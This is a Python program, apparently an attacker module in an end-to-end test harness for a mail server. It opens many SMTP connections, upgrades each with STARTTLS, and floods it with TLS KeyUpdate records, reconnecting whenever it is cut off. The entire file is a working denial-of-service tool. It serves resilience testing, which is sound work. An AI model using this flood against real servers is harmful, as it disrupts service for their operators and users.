"""One attacker, as a program: key_updates.py FILE, with a Flood as JSON in it (attackers.py). Each connection speaks STARTTLS and
then nothing but TLS KeyUpdate messages, as fast as they are taken; behind each `limit` of them it says `payload`. It begins
anew where it is cut off. SIGTERM ends it; then it writes as JSON what it has sent.
"""
import collections
import json
import os
import pathlib
import signal
import sys
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent.parent / "e2e")]

from harness.tls_records import TlsRecords  # noqa: E402
from network import bound_socket, server_address  # noqa: E402

UPDATE_OCTETS = 27  # RFC 8446 §5.2: a record of one KeyUpdate
CONNECT_SECONDS = 30


class KeyUpdates:
    def __init__(self, settings):
        self.settings = settings
        self.told = collections.Counter(sent=0, opened=0, failed=0, cut=0, most_open=settings["connections"])

    def flood(self, source):
        plain = bound_socket(source)
        with plain:
            plain.settimeout(CONNECT_SECONDS)
            plain.connect((server_address(source), self.settings["port"]))
            reader = plain.makefile("rb")
            for command in (b"", b"EHLO attacker.example\r\n", b"STARTTLS\r\n"):
                plain.sendall(command)
                while reader.readline()[3:4] == b"-":
                    pass
            with TlsRecords(plain) as records:
                self.told["opened"] += 1
                payload = self.settings["payload"].encode("latin-1")
                while True:
                    for _ in range(self.settings["limit"] or 1000):
                        records.update_key()
                        self.told["sent"] += UPDATE_OCTETS
                    if payload:
                        records.send(payload)

    def keep_one(self, index):
        sources = self.settings["sources"]
        while True:
            try:
                self.flood(sources[index % len(sources)])
            except ConnectionError:
                self.told["cut"] += 1
            except OSError:
                self.told["failed"] += 1
            time.sleep(self.settings["again"])

    def finish(self, *_):
        json.dump({**self.told, "codes": {}}, sys.stdout)
        sys.stdout.flush()
        os._exit(0)  # the kernel closes the connections

    def run(self):
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, self.finish)
        for index in range(self.settings["connections"]):
            threading.Thread(target=self.keep_one, args=(index,), daemon=True).start()
        while True:
            signal.pause()


if __name__ == "__main__":
    KeyUpdates(json.loads(pathlib.Path(sys.argv[1]).read_text())).run()
